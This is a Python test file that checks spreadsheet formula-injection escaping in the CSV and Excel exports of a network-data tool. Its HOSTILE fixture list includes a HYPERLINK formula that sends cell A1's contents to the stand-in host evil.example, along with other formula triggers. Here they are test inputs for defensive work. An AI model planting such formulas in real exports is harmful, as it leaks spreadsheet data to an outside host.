"""Spreadsheet formula injection (issue 15, item 2): exports neutralise formula
triggers, and reading undoes exactly that escape, so export -> read is lossless."""

from __future__ import annotations

import csv
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from actornet.graph.build import build_network
from actornet.loaders import read_network, write_excel, write_folder
from actornet.loaders.cells import escape_cell, read_cell, unescape_cell
from actornet.loaders.jsonfile import node_link_tables

HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=1+1", "+1", "-1+2",
           "@SUM(A1)", "\t=1+1", "\r=1+1", "'=1+1", "''@x", "'quoted'", "'s-Hertogenbosch",
           " padded ", "-5", "=", "'"]

# Any text but lone surrogates (not UTF-8), with the characters that matter often.
TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=12)
TRICKY = st.sampled_from(HOSTILE + ["\t", "\r", " ", "'", "=", "+", "-", "@", "x", "\n",
                                    "\x00", "\x01", "_x000D_", "_x", ";"])
CELL = st.lists(st.one_of(TEXT, TRICKY), min_size=1, max_size=4).map("".join)
NAME = CELL.filter(lambda s: s.strip() != "")
ALIAS = CELL.filter(lambda s: s.strip() != "" and ";" not in s)
EXTRA = CELL.filter(lambda s: s != "")

PROPERTY = settings(max_examples=40, deadline=None, database=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])


@pytest.mark.parametrize("value", HOSTILE + ["", "Berlin", "'", "''"])
def test_unescape_undoes_escape(value):
    assert unescape_cell(escape_cell(value)) == value


@pytest.mark.parametrize("value", HOSTILE)
def test_an_escaped_cell_cannot_start_a_formula(value):
    escaped = escape_cell(value)
    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_numbers_are_not_escaped():
    assert escape_cell(-5) == -5


def test_a_hand_written_quote_is_kept():
    assert read_cell("'quoted'") == "'quoted'"


def test_padding_of_a_plain_cell_is_removed():
    assert read_cell("  Berlin ") == "Berlin"


def _network(names, aliases, evidence, extras):
    nodes = [{"id": "c0", "kind": "city", "name": "Home"}]
    for i, name in enumerate(names):
        nodes.append({"id": f"a{i}", "kind": "ngo", "name": name, "city": "c0",
                      "aliases": aliases[i % len(aliases)] if aliases else [],
                      "evidence": evidence[i % len(evidence)] if evidence else None,
                      "note": extras[i % len(extras)] if extras else None})
    links = [{"source": "a0", "target": "c0", "type": "COOPERATES_WITH", "weight": 2,
              "evidence": evidence[0] if evidence else None,
              "comment": extras[-1] if extras else None}]
    doc = {"nodes": [{k: v for k, v in n.items() if v not in (None, [])} for n in nodes],
           "links": [{k: v for k, v in l.items() if v is not None} for l in links]}
    network = build_network(node_link_tables(doc, source="gen.json", name="gen"))
    assert not network.report.problems, network.report.problems
    return network


def _same(a, b):
    assert dict(a.graph.nodes(data=True)) == dict(b.graph.nodes(data=True))
    assert sorted(a.graph.edges(keys=True, data=True), key=str) == \
        sorted(b.graph.edges(keys=True, data=True), key=str)


@PROPERTY
@given(names=st.lists(NAME, min_size=1, max_size=5),
       aliases=st.lists(st.lists(ALIAS, max_size=3), max_size=3),
       evidence=st.lists(NAME, max_size=3), extras=st.lists(EXTRA, max_size=3))
def test_csv_folder_round_trip_is_lossless(names, aliases, evidence, extras):
    network = _network(names, aliases, evidence, extras)
    with tempfile.TemporaryDirectory() as tmp:
        write_folder(network, Path(tmp) / "net")
        _same(network, read_network(Path(tmp) / "net"))


@PROPERTY
@given(names=st.lists(NAME, min_size=1, max_size=5),
       aliases=st.lists(st.lists(ALIAS, max_size=3), max_size=3),
       evidence=st.lists(NAME, max_size=3), extras=st.lists(EXTRA, max_size=3))
def test_excel_round_trip_is_lossless(names, aliases, evidence, extras):
    network = _network(names, aliases, evidence, extras)
    with tempfile.TemporaryDirectory() as tmp:
        write_excel(network, Path(tmp) / "net.xlsx")
        _same(network, read_network(Path(tmp) / "net.xlsx"))


@pytest.fixture
def hostile_network():
    """The 14 rows of the issue's probe: every trigger in a name, an alias, an
    evidence cell and an extra column."""
    return _network(HOSTILE[:13], [[h] for h in HOSTILE[:5]], ["=1+1", "@x"], ["=1+1", "-x"])


def test_the_hostile_rows_round_trip_through_excel(hostile_network, tmp_path):
    write_excel(hostile_network, tmp_path / "net.xlsx")
    back = read_network(tmp_path / "net.xlsx")
    assert back.report.rows_rejected == 0
    _same(hostile_network, back)


def test_no_exported_workbook_cell_is_a_formula(hostile_network, tmp_path):
    import openpyxl

    write_excel(hostile_network, tmp_path / "net.xlsx")
    book = openpyxl.load_workbook(tmp_path / "net.xlsx")
    types = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    assert "f" not in types


def test_no_exported_csv_cell_starts_a_formula(hostile_network, tmp_path):
    write_folder(hostile_network, tmp_path / "net")
    firsts = set()
    for path in (tmp_path / "net").glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as handle:
            firsts |= {cell[:1] for row in csv.reader(handle) for cell in row}
    assert not firsts & {"=", "+", "-", "@", "\t", "\r"}


def test_weights_stay_numbers_in_the_export(hostile_network, tmp_path):
    write_folder(hostile_network, tmp_path / "net")
    with (tmp_path / "net" / "ties.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["weight"] == "2"
